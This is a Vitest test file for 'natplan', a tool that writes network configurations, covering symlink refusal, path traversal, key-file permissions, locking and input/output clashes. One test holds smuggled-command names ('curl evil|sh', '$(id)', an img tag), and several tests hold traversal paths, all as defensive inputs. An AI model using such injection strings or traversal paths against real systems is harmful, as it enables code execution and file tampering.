import { spawn, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  chmodSync,
  existsSync,
  lchownSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { commandFile, natplan, root } from '../support/command.ts'
import { temporaryFolder } from '../support/temporary-folder.ts'

const acceptance = readFileSync(join(root, 'examples', 'acceptance', 'natplan.yaml'), 'utf8')
const key = 'Zk39exampleKEY7QzNotARealOneAtAll'
const otherKey = 'AnotherKEYthatIsJustAsLongAndGood'
const env = { NATPLAN_PSK: key }
const generate = ['generate', '-o', 'out']
const listName = '.natplan-files.json'

function digest(text: string): string {
  return createHash('sha256').update(text).digest('hex')
}

function folderWithPlan(files: Readonly<Record<string, string>> = {}): string {
  return temporaryFolder({ 'natplan.yaml': acceptance, ...files })
}

function modeOf(path: string): number {
  return statSync(path).mode & 0o777
}

describe('a link in the output folder', () => {
  it.each([
    ['the folder of a site', 'out/cloud', '../victim', 'out/cloud'],
    ['a file of a site', 'out/cloud/configure.txt', '../../victim/mine', 'out/cloud/configure.txt'],
    ['a file of a site that leads nowhere', 'out/cloud/configure.txt', '../../victim/new', 'out/cloud/configure.txt'],
    ['the list of files', `out/${listName}`, '../victim/mine', `out/${listName}`],
    ['the folder for new files', 'out/.natplan-new', '../victim', 'out/.natplan-new'],
  ])('in place of %s is refused, and nothing is changed', (_, path, target, named) => {
    const cwd = folderWithPlan({ 'out/cloud/x': '', 'victim/mine': 'mine', 'victim/0': 'mine too' })
    if (path === 'out/cloud') rmSync(join(cwd, 'out', 'cloud'), { recursive: true })
    symlinkSync(target, join(cwd, path))
    const { status, stderr } = natplan(generate, { cwd, env })
    expect(stderr).toContain(`error FILE_IS_LINK ${named} is a link`)
    expect(status).toBe(2)
    expect(readdirSync(join(cwd, 'victim')).sort()).toEqual(['0', 'mine'])
    expect(readFileSync(join(cwd, 'victim', 'mine'), 'utf8')).toBe('mine')
    expect(existsSync(join(cwd, 'out', 'README.md'))).toBe(false)
    expect(natplan([...generate, '--check'], { cwd, env }).status).toBe(path.endsWith('-new') ? 1 : 2)
  })

  it('on the way to a file that the list names removes nothing there', () => {
    const cwd = folderWithPlan({ 'victim/rc': 'mine' })
    mkdirSync(join(cwd, 'out'))
    symlinkSync('../victim', join(cwd, 'out', 'link'))
    writeFileSync(join(cwd, 'out', listName), JSON.stringify({ 'link/rc': digest('mine') }))
    expect(natplan(generate, { cwd, env }).stderr).toContain('FILE_IS_LINK out/link is a link')
    expect(existsSync(join(cwd, 'victim', 'rc'))).toBe(true)
  })

  it('may be the folder itself, which the user named', () => {
    const cwd = folderWithPlan()
    mkdirSync(join(cwd, 'real'))
    symlinkSync('real', join(cwd, 'out'))
    expect(natplan(generate, { cwd, env }).status).toBe(0)
    expect(existsSync(join(cwd, 'real', 'cloud', 'configure.txt'))).toBe(true)
  })

  it.skipIf(process.geteuid?.() !== 0)('may not be the folder itself where another user made it', () => {
    const cwd = folderWithPlan({ 'real/x': '' })
    symlinkSync('real', join(cwd, 'out'))
    lchownSync(join(cwd, 'out'), 65534, 65534)
    expect(natplan(generate, { cwd, env }).stderr).toContain('FILE_IS_LINK out is a link')
    expect(readdirSync(join(cwd, 'real'))).toEqual(['x'])
    expect(natplan(['generate', '-o', 'out/../real'], { cwd, env }).status).toBe(0)
  })

  it('is refused by --kustomize too', () => {
    const cwd = folderWithPlan({ 'victim/mine': 'mine', 'out/x': '' })
    symlinkSync('../victim', join(cwd, 'out', 'cloud'))
    expect(natplan(['kubernetes', '--kustomize', 'out'], { cwd }).stderr).toContain('FILE_IS_LINK out/cloud is a link')
    expect(readdirSync(join(cwd, 'victim'))).toEqual(['mine'])
  })
})

describe('the list of files', () => {
  it.each(['../victim', 'a/../../victim', '/etc/victim', '..\\victim', 'C:victim', 'a//victim', './victim', ''])(
    'counts for nothing where it names %j',
    (path) => {
      const cwd = folderWithPlan({ victim: 'mine', 'out/x': '' })
      writeFileSync(join(cwd, 'out', listName), JSON.stringify({ [path]: digest('mine') }))
      expect(natplan(generate, { cwd, env }).status).toBe(0)
      expect(readFileSync(join(cwd, 'victim'), 'utf8')).toBe('mine')
    },
  )

  it.each(['{', '[]', '7', 'null', '{"a":7}', '{"a":{"digest":1}}', '{"a":[[]]}', '{"__proto__":"x"}'])(
    'may be any nonsense: %s',
    (text) => {
      const cwd = folderWithPlan({ [`out/${listName}`]: text })
      expect(natplan(generate, { cwd, env }).status).toBe(0)
      expect(natplan([...generate, '--check'], { cwd, env }).status).toBe(0)
    },
  )

  it.each(['.git/config', '.env', 'cloud/.env'])('has no hidden file removed: %s', (path) => {
    const anything = { digest: digest('\0'), gaps: [[0, 0, 0]] }
    const cwd = folderWithPlan({
      [`out/${path}`]: '',
      [`out/${listName}`]: JSON.stringify({ [path]: anything, x: anything }),
      'out/x': 'y',
    })
    expect(natplan(generate, { cwd, env }).stdout).toContain('removed  out/x')
    expect(existsSync(join(cwd, 'out', path))).toBe(true)
  })

  it('makes no site of what could be none: its name would become mark-up and commands of the page', () => {
    const names = ['x` <img src=a>; curl evil|sh;`', '$(id)', 'gone by', 'gone']
    const files = Object.fromEntries(names.map((name) => [`out/${name}/remove.txt`, 'delete x\n']))
    const list = Object.fromEntries(names.map((name) => [`${name}/remove.txt`, digest('delete x\n')]))
    const cwd = folderWithPlan({ ...files, [`out/${listName}`]: JSON.stringify(list) })
    expect(natplan(generate, { cwd, env }).status).toBe(0)
    const page = readFileSync(join(cwd, 'out', 'README.md'), 'utf8')
    expect(page.match(/^- .* has left/gm)).toEqual(['- gone has left'])
    expect(names.filter((name) => existsSync(join(cwd, 'out', name)))).toEqual(['gone'])
  })

  it('removes no file that the command reads', () => {
    const cwd = folderWithPlan({ [listName]: JSON.stringify({ 'natplan.yaml': digest(acceptance) }) })
    const { status, stderr } = natplan(['generate', '-o', '.'], { cwd, env })
    expect(status).toBe(2)
    expect(stderr).toContain('natplan.yaml would be replaced')
    expect(readFileSync(join(cwd, 'natplan.yaml'), 'utf8')).toBe(acceptance)
  })

  it('holds nothing by which a key could be tried', () => {
    const cwd = folderWithPlan()
    natplan(generate, { cwd, env })
    const list = readFileSync(join(cwd, 'out', listName), 'utf8')
    const known = JSON.parse(list) as Record<string, unknown>
    expect(Object.keys(known)).toContain('cloud/configure.txt')
    for (const path of Object.keys(known)) {
      const text = readFileSync(join(cwd, 'out', path), 'utf8')
      expect(list.includes(digest(text)), path).toBe(!text.includes(key))
    }
    natplan(generate, { cwd, env: { NATPLAN_PSK: otherKey } })
    expect(readFileSync(join(cwd, 'out', listName), 'utf8')).toBe(list)
  })

  it('of an older natplan, with digests of whole files, still counts', () => {
    const cwd = folderWithPlan()
    natplan(generate, { cwd, env })
    const list = join(cwd, 'out', listName)
    const paths = Object.keys(JSON.parse(readFileSync(list, 'utf8')) as object)
    const older = paths.map((path) => [path, digest(readFileSync(join(cwd, 'out', path), 'utf8'))])
    const newer = readFileSync(list, 'utf8')
    writeFileSync(list, JSON.stringify(Object.fromEntries(older)))
    expect(natplan(generate, { cwd, env: { NATPLAN_PSK: otherKey } }).status).toBe(0)
    expect(readFileSync(list, 'utf8')).toBe(newer)
  })
})

describe('a file with a key', () => {
  it('is replaced when the key is another, and not when somebody edited it', () => {
    const cwd = folderWithPlan()
    natplan(generate, { cwd, env })
    const file = join(cwd, 'out', 'cloud', 'configure.txt')
    expect(natplan(generate, { cwd, env: { NATPLAN_PSK: `${otherKey}Longer` } }).status).toBe(0)
    const text = readFileSync(file, 'utf8')
    expect(text).toContain(`${otherKey}Longer`)
    for (const edited of [`${text}more`, text.replace('secret', 'secret '), text.replace(/\n.*Longer.*\n/, '\n')]) {
      writeFileSync(file, edited)
      expect(natplan(generate, { cwd, env }).stderr).toContain('FILE_FOREIGN')
    }
    writeFileSync(file, text)
    expect(natplan(generate, { cwd, env }).status).toBe(0)
  })

  it('is readable by its owner again, whatever happened to it', () => {
    const cwd = folderWithPlan()
    natplan(generate, { cwd, env })
    const file = join(cwd, 'out', 'cloud', 'configure.txt')
    chmodSync(file, 0o644)
    expect(natplan([...generate, '--check'], { cwd, env })).toMatchObject({
      status: 1,
      stdout: 'would be written  out/cloud/configure.txt\n',
    })
    expect(modeOf(file)).toBe(0o644)
    expect(natplan(generate, { cwd, env }).stdout).toBe('written  out/cloud/configure.txt\n')
    expect(modeOf(file)).toBe(0o600)
    chmodSync(join(cwd, 'out', 'cloud', 'check.txt'), 0o664)
    expect(natplan(generate, { cwd, env }).stdout).toBe('out is up to date\n')
  })

  it.each(['check', 'remove'])('is private whichever template printed the key: %s', (template) => {
    const text = '{{#each peers}}\nset a {{v secret}} b\n{{/each}}\n'
    const cwd = folderWithPlan({ [`pack/vyos-1.4/${template}.hbs`]: text })
    expect(natplan([...generate, '--templates', 'pack'], { cwd, env }).status).toBe(0)
    expect(readFileSync(join(cwd, 'out', 'cloud', `${template}.txt`), 'utf8')).toContain(key)
    for (const name of readdirSync(join(cwd, 'out', 'cloud'))) {
      const path = join(cwd, 'out', 'cloud', name)
      expect(modeOf(path), name).toBe(readFileSync(path, 'utf8').includes(key) ? 0o600 : 0o644)
    }
    expect(readFileSync(join(cwd, 'out', listName), 'utf8')).not.toContain(digest(`set a ${key} b\n`))
  })
})

it('leaves nothing that others may write, whatever the umask', () => {
  const cwd = folderWithPlan()
  const script = `umask 000; "${process.execPath}" "${commandFile}" generate -o out`
  expect(spawnSync('sh', ['-c', script], { cwd, env: { PATH: process.env['PATH'], ...env } }).status).toBe(0)
  const entries = readdirSync(cwd, { recursive: true, encoding: 'utf8' }).filter((path) => path !== 'natplan.yaml')
  expect(entries.length).toBeGreaterThan(10)
  for (const path of entries) expect(modeOf(join(cwd, path)) & 0o022, path).toBe(0)
})

describe('what a run that was cut off left', () => {
  it('goes, of this natplan and of an older one, and no file of others with it', () => {
    const cwd = folderWithPlan({
      'out/.natplan-new/0': key,
      'out/.natplan-new-aB3dE6/old-0': key,
      'out/.natplan-new-aB3dE6/notes': 'mine',
      'out/.natplan-news/0': 'mine',
    })
    expect(natplan(generate, { cwd, env }).status).toBe(0)
    expect(
      readdirSync(join(cwd, 'out'))
        .filter((name) => name.startsWith('.natplan-'))
        .sort(),
    ).toEqual([listName, '.natplan-new-aB3dE6', '.natplan-news'])
    expect(readdirSync(join(cwd, 'out', '.natplan-new-aB3dE6'))).toEqual(['notes'])
  })
})

describe('generate --check', () => {
  it('writes nothing, and says with its status whether something would be written', () => {
    const cwd = folderWithPlan()
    const check = () => natplan([...generate, '--check'], { cwd, env })
    const before = check()
    expect(before.status).toBe(1)
    expect(before.stdout).toContain('would be written  out/cloud/configure.txt\n')
    expect(before.stdout).toContain('would be written  natplan.lock.yaml\n')
    expect(readdirSync(cwd)).toEqual(['natplan.yaml'])
    natplan(generate, { cwd, env })
    expect(check()).toMatchObject({ status: 0, stdout: 'out is up to date\n' })
    rmSync(join(cwd, 'natplan.lock.yaml'))
    expect(check()).toMatchObject({ status: 1, stdout: 'would be written  natplan.lock.yaml\n' })
    natplan(generate, { cwd, env })
    writeFileSync(join(cwd, 'natplan.yaml'), acceptance.replaceAll('onpremise', 'office'))
    const after = check()
    expect(after.status).toBe(1)
    expect(after.stdout).toContain('would be removed  out/onpremise/configure.txt\n')
    expect(existsSync(join(cwd, 'out', 'onpremise', 'configure.txt'))).toBe(true)
  })

  it('needs no right to write', () => {
    const cwd = folderWithPlan()
    natplan(generate, { cwd, env })
    for (const folder of [cwd, join(cwd, 'out')]) chmodSync(folder, 0o555)
    expect(natplan([...generate, '--check'], { cwd, env }).status).toBe(0)
    expect(natplan(generate, { cwd, env })).toMatchObject({ status: 0, stdout: 'out is up to date\n' })
    for (const folder of [cwd, join(cwd, 'out')]) chmodSync(folder, 0o755)
  })

  it('refuses what generate refuses', () => {
    const cwd = folderWithPlan({ 'out/README.md': 'mine' })
    expect(natplan([...generate, '--check'], { cwd, env })).toMatchObject({
      status: 2,
      stderr: expect.stringContaining('FILE_FOREIGN'),
    })
  })
})

describe('names of sites', () => {
  it.each([
    ['Cloud', 'cloud', 'a folder cloud and a folder Cloud are the same'],
    ['cloud', 'nul', 'a folder cannot be called nul'],
    ['cloud', 'COM1', 'a folder cannot be called COM1'],
  ])('that cannot be folders are refused by generate, and not by plan: %s, %s', (one, other, message) => {
    const names = { cloud: one, onpremise: other }
    const plan = acceptance.replaceAll(/\b(cloud|onpremise)\b/g, (name) => names[name as keyof typeof names])
    const cwd = temporaryFolder({ 'natplan.yaml': plan })
    const { status, stderr } = natplan(generate, { cwd, env })
    expect(status).toBe(1)
    expect(stderr).toMatch(new RegExp(`natplan.yaml:\\d+:\\d+ error SITE_FOLDER_UNFIT sites.${other}: ${message}`))
    expect(readdirSync(cwd)).toEqual(['natplan.yaml'])
    expect(natplan(['plan'], { cwd })).toMatchObject({ status: 0, stderr: expect.not.stringContaining('FOLDER') })
    expect(natplan(['vyatta'], { cwd }).status).toBe(0)
  })

  it('that are only like such are taken', () => {
    const cwd = temporaryFolder({
      'natplan.yaml': acceptance.replace(/\bcloud\b/g, 'com').replace(/\bonpremise\b/g, 'nulls'),
    })
    expect(natplan(generate, { cwd, env }).status).toBe(0)
  })
})

describe('two runs at once', () => {
  const start = (args: readonly string[], cwd: string) =>
    new Promise<{ status: number | null; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [commandFile, ...args], { cwd, env: { PATH: process.env['PATH'], ...env } })
      let stderr = ''
      child.stderr.on('data', (text) => {
        stderr += text
      })
      child.on('close', (status) => resolve({ status, stderr }))
    })

  it('lose no allocation of one another', async () => {
    const plan = (name: string, subnet: string) =>
      `version: 1\nsites:\n  ${name}: { subnets: [${subnet}] }\n  ${name}2: { subnets: [${subnet}] }\n`
    const names = ['a', 'b', 'c', 'd']
    const files = names.map((name, index) => [`${name}.yaml`, plan(name, `10.${index}.0.0/24`)] as const)
    const cwd = temporaryFolder(Object.fromEntries(files))
    const outcomes = await Promise.all(
      names.map((name) => start(['plan', `${name}.yaml`, '--lock', 'all.lock.yaml', '--save'], cwd)),
    )
    expect(outcomes.map(({ status, stderr }) => (status === 0 ? '' : stderr))).toEqual(['', '', '', ''])
    const lock = readFileSync(join(cwd, 'all.lock.yaml'), 'utf8')
    for (const index of names.keys()) expect(lock).toContain(`10.${index}.0.0/24`)
    expect(readdirSync(cwd)).toHaveLength(5)
  })

  it('leave one folder as one of them wanted it', async () => {
    const cwd = folderWithPlan({ 'other/natplan.yaml': acceptance.replaceAll('onpremise', 'office') })
    const plans = ['natplan.yaml', 'other/natplan.yaml', 'natplan.yaml', 'other/natplan.yaml']
    const outcomes = await Promise.all(plans.map((plan) => start(['generate', plan, '-o', 'out'], cwd)))
    expect(outcomes.map(({ status, stderr }) => (status === 0 ? '' : stderr))).toEqual(['', '', '', ''])
    const results = ['natplan.yaml', 'other/natplan.yaml'].map(
      (plan) => natplan(['generate', plan, '-o', 'out', '--check'], { cwd, env }).status,
    )
    expect(results.sort()).toEqual([0, 1])
  })

  const busy = '.natplan.lock.yaml.busy'

  it('are told of each other when one takes long, and what to do', async () => {
    const cwd = folderWithPlan()
    const preload = `--require ${join(root, 'test', 'support', 'at-call.cjs')}`
    natplan(['plan', '--save'], { cwd, env: { NODE_OPTIONS: preload, CALLS: 'unlinkSync', AT_CALL: '1' } })
    const left = JSON.parse(readFileSync(join(cwd, busy), 'utf8')) as object
    const holder = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 60000)'])
    writeFileSync(join(cwd, busy), JSON.stringify({ ...left, process: holder.pid }))
    const { status, stderr } = natplan(['release', 'cloud', '10.0.1.0/27', '--renumber'], { cwd })
    expect(status).toBe(2)
    expect(stderr).toContain(`FILE_IN_USE another natplan is at work there: process ${holder.pid} holds ${busy}`)
    expect(stderr).toContain(`remove ${busy}`)
    holder.kill('SIGKILL')
    await new Promise((resolve) => holder.once('close', resolve))
    expect(natplan(['release', 'cloud', '10.0.1.0/27', '--renumber'], { cwd }).status).toBe(0)
    expect(existsSync(join(cwd, busy))).toBe(false)
  })

  it('wait no longer than that where a left claim cannot be taken away', () => {
    const cwd = folderWithPlan({ [busy]: '', [`${busy}-left/x`]: '' })
    utimesSync(join(cwd, busy), 1, 1)
    const { status, stderr } = natplan(['plan', '--save'], { cwd })
    expect({ status, stderr }).toMatchObject({ status: 2, stderr: expect.stringContaining('FILE_IN_USE') })
    rmSync(join(cwd, busy))
    expect(natplan(['plan', '--save'], { cwd }).status).toBe(0)
  })

  it.each([
    ['empty', '', 5],
    ['of another machine', '{"place":"elsewhere","process":1,"token":"x"}', 3700],
  ])('are no more when what one left is %s and old', (_, text, seconds) => {
    const cwd = folderWithPlan({ [busy]: text })
    const then = Date.now() / 1000 - seconds
    utimesSync(join(cwd, busy), then, then)
    expect(natplan(['plan', '--save'], { cwd }).status).toBe(0)
    expect(existsSync(join(cwd, busy))).toBe(false)
  })
})

describe('a link that leads out of its folder', () => {
  const secret = 'token-of-somebody-else'
  const list = '10.0.0.0/8\n10.1.0.0/16\nbad\n'
  const inHere = (target: string, name: string) => {
    const cwd = temporaryFolder({ 'here/list.txt': list, 'here/natplan.yaml': acceptance, secret })
    natplan(['plan', '--save'], { cwd: join(cwd, 'here') })
    mkdirSync(join(cwd, 'here', 'inner'))
    for (const file of ['natplan.yaml', 'natplan.lock.yaml']) {
      for (const folder of ['.', 'here/inner'])
        writeFileSync(join(cwd, folder, file), readFileSync(join(cwd, 'here', file)))
    }
    writeFileSync(join(cwd, 'here', 'natplan.yaml'), acceptance.replace('10.0.1.0/24', '10.0.2.0/24'))
    rmSync(join(cwd, 'here', name), { force: true })
    symlinkSync(target, join(cwd, 'here', name))
    return join(cwd, 'here')
  }

  it.each([
    ['the plan', '../secret', 'natplan.yaml', ['plan']],
    ['the lock', '../secret', 'natplan.lock.yaml', ['plan']],
    ['the lock of another plan', '../natplan.lock.yaml', 'natplan.lock.yaml', ['plan', '--save']],
    ['a result', '../secret', 'link', ['overlaps', 'list.txt', '--out', 'link']],
    ['a list of bad lines', '../secret', 'link', ['overlaps', 'list.txt', '--bad-lines', 'link']],
    ['a device', '/dev/full', 'link', ['overlaps', 'list.txt', '--out', 'link']],
  ])('is not followed: %s', (_, target, name, args) => {
    const cwd = inHere(target, name)
    const before = readFileSync(join(cwd, '..', 'natplan.lock.yaml'), 'utf8')
    const { status, stdout, stderr } = natplan(args, { cwd })
    expect({ status, stderr }).toMatchObject({ status: 2, stderr: expect.stringContaining(`FILE_IS_LINK ${name} is`) })
    expect(stdout + stderr).not.toContain(secret)
    expect(readFileSync(join(cwd, '..', 'secret'), 'utf8')).toBe(secret)
    expect(readFileSync(join(cwd, '..', 'natplan.lock.yaml'), 'utf8')).toBe(before)
  })

  it.each([
    ['the plan', 'inner/natplan.yaml', 'natplan.yaml', ['plan']],
    ['the lock', 'inner/natplan.lock.yaml', 'natplan.lock.yaml', ['plan', '--save']],
    ['a result', 'inner/result', 'link', ['overlaps', 'list.txt', '--out', 'link']],
  ])('is another than one that stays there: %s', (_, target, name, args) => {
    expect(natplan(args, { cwd: inHere(target, name) })).toMatchObject({ status: 0 })
  })
})

describe('an output that is an input', () => {
  const list = '10.0.0.0/24\nbad line\n'

  it.each([
    ['by its name', ['p.txt', '--bad-lines', 'p.txt']],
    ['by another way', ['p.txt', '--bad-lines', 'x/../p.txt']],
    ['through a link', ['p.txt', '--bad-lines', 'link']],
    ['by a second name', ['p.txt', '--bad-lines', 'second']],
    ['of which the input is a link', ['link', '--bad-lines', 'p.txt']],
    ['as a result, through a link', ['p.txt', '--out', 'link']],
    ['as a result, by a second name', ['p.txt', '--out', 'second']],
    ['through a folder that is a link', ['p.txt', '--out', 'here/p.txt']],
  ])('is refused: %s', (_, args) => {
    const cwd = temporaryFolder({ 'p.txt': list, 'x/y': '' })
    symlinkSync('p.txt', join(cwd, 'link'))
    symlinkSync('.', join(cwd, 'here'))
    linkSync(join(cwd, 'p.txt'), join(cwd, 'second'))
    const { status, stderr } = natplan(['overlaps', ...args], { cwd })
    expect({ status, stderr }).toMatchObject({ status: 2, stderr: expect.stringContaining('is one of the inputs') })
    expect(readFileSync(join(cwd, 'p.txt'), 'utf8')).toBe(list)
  })

  it('is refused by free, of lists and of the plan', () => {
    const cwd = folderWithPlan({ 'p.txt': list })
    natplan(['plan', '--save'], { cwd })
    for (const file of ['p.txt', 'natplan.yaml', 'natplan.lock.yaml']) {
      const before = readFileSync(join(cwd, file), 'utf8')
      expect(natplan(['free', '-f', 'natplan.yaml', 'p.txt', '--bad-lines', file], { cwd }).stderr).toContain(
        `--bad-lines ${file} is one of the inputs`,
      )
      expect(readFileSync(join(cwd, file), 'utf8')).toBe(before)
    }
  })

  it('is two results in one file, which is refused however they are called', () => {
    const cwd = temporaryFolder({ 'p.txt': list, 'x/y': '' })
    symlinkSync('new', join(cwd, 'link'))
    const args = ['overlaps', 'p.txt', '--out', 'link', '--bad-lines', 'x/../new']
    expect(natplan(args, { cwd }).stderr).toContain('--out and --bad-lines name the same file')
  })

  it('is the lock in place of the plan', () => {
    const cwd = folderWithPlan()
    symlinkSync('natplan.yaml', join(cwd, 'lock'))
    expect(natplan(['plan', '--save', '--lock', 'lock'], { cwd }).stderr).toContain('--lock lock is one of the inputs')
  })

  it('is none when the two only lie beside each other', () => {
    const cwd = temporaryFolder({ 'p.txt': list })
    const args = ['overlaps', 'p.txt', '--out', 'result', '--bad-lines', 'bad']
    expect(natplan(args, { cwd }).status).toBe(0)
    expect(readFileSync(join(cwd, 'bad'), 'utf8')).toContain('bad line')
    const nowhere = ['overlaps', 'p.txt', '--out', '/dev/null', '--bad-lines', '/dev/null']
    expect(natplan(nowhere, { cwd }).status).toBe(0)
  })

  it('keeps the rights of the file that it replaces', () => {
    const cwd = temporaryFolder({ 'p.txt': list, result: 'old' })
    chmodSync(join(cwd, 'result'), 0o640)
    natplan(['overlaps', 'p.txt', '--out', 'result'], { cwd })
    expect(modeOf(join(cwd, 'result'))).toBe(0o640)
  })
})
